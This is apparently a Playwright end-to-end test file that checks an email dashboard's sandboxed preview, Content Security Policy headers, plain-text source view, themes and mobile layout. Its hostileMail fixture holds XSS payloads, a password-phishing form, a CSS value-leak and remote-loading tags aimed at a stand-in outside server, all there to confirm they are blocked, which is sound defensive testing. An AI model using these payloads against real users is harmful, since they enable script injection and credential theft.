import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { loadEmail, sendEmail } from "../harness/api-client.ts";
import { PATIENCE_MS } from "../harness/browser.ts";
import { expectSoon } from "../harness/browser-expect.ts";
import { type Outside, startOutside } from "../harness/browser-outside.ts";
import { openSharedStage, type SharedStage } from "../harness/browser-stage.ts";
import { requestsElsewhere } from "../harness/browser-watch.ts";
import { until } from "../harness/until.ts";

let outside: Outside;
let stage: SharedStage;
let page: Page;
let id: string;

beforeAll(async () => {
  outside = await startOutside();
  stage = await openSharedStage();
  page = stage.page;
  id = await sendEmail(stage.baseUrl, stage.member.key, {
    to: "ada@example.com",
    subject: "An offer",
    html: hostileMail(outside.origin),
  });
  const isCaptured = async () => (await loadEmail(stage.baseUrl, stage.member.key, id)).status === "captured";
  await until(isCaptured, { within: PATIENCE_MS, what: "the email in the inbox" });
});
afterAll(async () => {
  await stage?.close();
  await outside?.close();
});

/** All content of mail that could run, load, submit, navigate or cover the page. */
function hostileMail(elsewhere: string): string {
  return `<!doctype html><html><head><base href="${elsewhere}/base/">
    <meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">
    <link rel="stylesheet" href="${elsewhere}/sheet.css"><link rel="preconnect" href="${elsewhere}">
    <link rel="prefetch" href="${elsewhere}/prefetch"><link rel="icon" href="${elsewhere}/icon.png">
    <style>@import url("${elsewhere}/import.css");
      @font-face { font-family: f; src: url("${elsewhere}/font.woff2"); }
      body { background: url("${elsewhere}/background.png"); font-family: f; }
      input[value^="a"] { list-style: url("${elsewhere}/leak.png"); display: list-item; }
      .over { position: fixed; inset: -2000px; z-index: 2147483647; background: rgb(255 0 0 / 0.1); pointer-events: none; }</style>
    <script>alert(top.pwned = 1)</script><script src="${elsewhere}/script.js"></script></head>
    <body onload="alert(top.pwned = 1)"><h1>An offer</h1><div class="over"></div>
    <img src="${elsewhere}/image.png" alt="picture"><img src="x" onerror="alert(top.pwned = 1)">
    <svg onload="alert(top.pwned = 1)"><image href="${elsewhere}/svg.png"/><use href="${elsewhere}/use.svg#a"/></svg>
    <video poster="${elsewhere}/poster.png" src="${elsewhere}/video" autoplay></video>
    <iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>alert(top.pwned = 1)</script>"></iframe>
    <object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
    <form action="${elsewhere}/form" method="post" target="_top"><input name="password" value="a" autofocus>
      <button>Sign in again</button></form>
    <a href="${elsewhere}/link" target="_top" ping="${elsewhere}/ping">Read more</a>
    <a href="${elsewhere}/here">Stay here</a> <a href="javascript:alert(top.pwned = 1)">Press</a></body></html>`;
}

const frame = () => page.frameLocator("iframe");

async function expectQuiet(): Promise<void> {
  expect(outside.hits.map(({ path }) => path)).toEqual([]);
  expect(stage.visit.watch.dialogs).toEqual([]);
  expect(await page.evaluate("'pwned' in window")).toBe(false);
}

test("mail in the inbox is shown in a sandboxed frame, and does nothing (K1)", async () => {
  await page.goto(`${stage.baseUrl}/inbox`);
  await frame().getByRole("heading", { name: "An offer" }).waitFor();
  const element = page.locator("iframe");
  expect(await element.getAttribute("sandbox")).toBe("");
  // When its violations are on the console, the frame's policy has been applied to all of its content.
  await expectSoon(() => stage.visit.watch.frameFaults.join("\n")).toMatch(/sheet\.css/);
  await expectQuiet();
});

test("its button submits nothing, its links lead nowhere (K1)", async () => {
  await frame().getByRole("button", { name: "Sign in again" }).click();
  await expectSoon(() => stage.visit.watch.frameFaults.join("\n")).toMatch(/form submission|Blocked form/i);
  await frame().getByRole("link", { name: "Press" }).click();
  await frame().getByRole("link", { name: "Read more" }).click();
  await expectSoon(() => stage.visit.watch.frameFaults.join("\n")).toMatch(/navigation of the top-level/);
  await frame().getByRole("link", { name: "Stay here" }).click();
  await page.getByText("Links are disabled in the preview").waitFor();
  await frame().getByRole("heading", { name: "An offer" }).waitFor();
  expect(page.url()).toContain(`${stage.baseUrl}/inbox`);
  expect(page.context().pages()).toHaveLength(1);
  await expectQuiet();
});

test("mail that covers its own page does not cover the dashboard (K6)", async () => {
  await page.getByRole("tab", { name: "Source" }).click();
  await page.getByRole("tab", { name: "Preview" }).click();
  await frame().getByRole("heading", { name: "An offer" }).waitFor();
  const width = await page.evaluate<number>("document.documentElement.scrollWidth - innerWidth");
  expect(width).toBeLessThanOrEqual(0);
});

test("the preview opened without the frame is as harmless (K1)", async () => {
  const single = await page.context().newPage();
  const response = await single.goto(`${stage.baseUrl}/api/emails/${id}/preview`);
  expect(response?.headers()["content-security-policy"]).toMatch(/^sandbox; default-src 'none'/);
  expect(response?.headers()["content-security-policy"]).toContain("frame-ancestors 'self'");
  await single.getByRole("heading", { name: "An offer" }).waitFor();
  expect(await single.evaluate("origin")).toBe("null");
  await expectQuiet();
  await single.close();
});

test("the source is served as plain text, whatever it contains (K3)", async () => {
  const single = await page.context().newPage();
  const response = await single.goto(`${stage.baseUrl}/api/emails/${id}/source`);
  expect(response?.headers()).toMatchObject({
    "content-type": "text/plain; charset=utf-8",
    "x-content-type-options": "nosniff",
    "cache-control": "no-store",
  });
  expect(await single.evaluate("document.contentType")).toBe("text/plain");
  await expectQuiet();
  await single.close();
});

test("neither page nor frame requested another server, and the page kept its policy (K5)", () => {
  expect(requestsElsewhere(stage.visit.watch, [stage.baseUrl])).toEqual([]);
  expect(stage.visit.watch.faults).toEqual([]);
});

test("the page's policy forbids inline scripts, framing, and writing HTML (K5)", async () => {
  const response = await page.goto(`${stage.baseUrl}/inbox`);
  const policy = response?.headers()["content-security-policy"] ?? "";
  expect(policy).toMatch(/^default-src 'none'; script-src 'self';/);
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).not.toMatch(/unsafe-|\*/);
  await frame().getByRole("heading", { name: "An offer" }).waitFor();
  const writeHtml = "try { document.body.innerHTML = '<b>x</b>'; 'written' } catch (error) { error.name }";
  expect(await page.evaluate(writeHtml)).toBe("TypeError");
});

test("only remote images load, when the user requests them, without cookie and referrer (K1)", async () => {
  await page.getByRole("button", { name: "Load remote images" }).click();
  await expectSoon(() => outside.hits.map(({ path }) => path)).toContain("/image.png");
  await frame().getByRole("heading", { name: "An offer" }).waitFor();
  await page.getByRole("button", { name: "Block remote images" }).click();
  await frame().getByRole("heading", { name: "An offer" }).waitFor();
  // Chromium allows a prefetch from every origin that any directive allows: here, that of the images.
  const allowed = ["/base/x", "/prefetch", /\.png$/];
  for (const { path, headers } of outside.hits) {
    expect(
      allowed.some((one) => (typeof one === "string" ? one === path : one.test(path))),
      path,
    ).toBe(true);
    expect(headers).not.toHaveProperty("cookie");
    expect(headers).not.toHaveProperty("referer");
  }
  expect(stage.visit.watch.dialogs).toEqual([]);
});

test("a message is shown as mail programs with a light and a dark theme show it", async () => {
  const html = `<style>body { background: rgb(250, 240, 230) }
    @media (prefers-color-scheme: dark) { body { background: rgb(17, 34, 51) } }</style><h1>Two themes</h1>`;
  const themed = await sendEmail(stage.baseUrl, stage.member.key, {
    to: "a@b.test",
    subject: "Themes",
    html,
  });
  const plain = await sendEmail(stage.baseUrl, stage.member.key, {
    ...{ to: "a@b.test", subject: "Plain", html: "<h1>One theme</h1>" },
  });
  const background = async () => {
    await frame().getByRole("heading").waitFor();
    return await page.frames().at(-1)?.evaluate<string>("getComputedStyle(document.body).backgroundColor");
  };
  const choose = (theme: string) =>
    page.getByRole("radio", { name: theme, exact: true }).check({ force: true });
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    await page.goto(`${stage.baseUrl}/emails/${themed}`);
    await expectSoon(background).toBe("rgb(250, 240, 230)");
    await choose("Dark");
    await expectSoon(background).toBe("rgb(17, 34, 51)");
    await choose("Light");
    await expectSoon(background).toBe("rgb(250, 240, 230)");
  }
  await page.emulateMedia({ colorScheme: "light" });
  await page.goto(`${stage.baseUrl}/inbox?id=${plain}`);
  await frame().getByRole("heading", { name: "One theme" }).waitFor();
  await choose("Dark");
  await page.getByText("This message has no dark styles.").waitFor();
});

test("Mobile shows a message at the width of a phone, and shrinks one that does not fit", async () => {
  const send = (subject: string, html: string) =>
    sendEmail(stage.baseUrl, stage.member.key, { to: "a@b.test", subject, html });
  const wide = await send("Wide", '<table width="600"><tr><td><h1>Fixed</h1></td></tr></table>');
  const flexible = await send("Flexible", '<table width="100%"><tr><td><h1>Flexible</h1></td></tr></table>');
  /** The width of the page in the frame, how far it can be scrolled sideways, and the width of the frame on the screen. */
  const widths = async () => {
    await frame().getByRole("heading").waitFor();
    const inner = await page
      .frames()
      .at(-1)
      ?.evaluate<[number, number]>(
        "[innerWidth, document.documentElement.scrollWidth - document.documentElement.clientWidth]",
      );
    return [...(inner ?? []), Math.round((await page.locator("iframe").boundingBox())?.width ?? 0)];
  };
  const mobile = page.getByRole("radio", { name: "Mobile" });
  const note = page.getByText("This message seems to need 600 px.");
  await page.goto(`${stage.baseUrl}/emails/${wide}`);
  await mobile.check({ force: true });
  await expectSoon(widths).toEqual([632, 0, 375]);
  await note.waitFor();
  expect(await page.locator("iframe").getAttribute("sandbox")).toBe("");
  await page.goto(`${stage.baseUrl}/emails/${flexible}`);
  await mobile.check({ force: true });
  await expectSoon(widths).toEqual([375, 0, 375]);
  expect(await note.count()).toBe(0);
});

test("on a phone, a wide message is shrunk to the dashboard", async () => {
  const html = '<table width="600"><tr><td><h1>Fixed</h1></td></tr></table>';
  const id = await sendEmail(stage.baseUrl, stage.member.key, { to: "a@b.test", subject: "Wide", html });
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`${stage.baseUrl}/emails/${id}`);
  await frame().getByRole("heading", { name: "Fixed" }).waitFor();
  await expectSoon(() => page.frames().at(-1)?.evaluate("innerWidth")).toBe(632);
  const { x = 0, width = 0 } = (await page.locator("iframe").boundingBox()) ?? {};
  expect(width).toBeGreaterThan(250);
  expect(x + width).toBeLessThan(390);
});
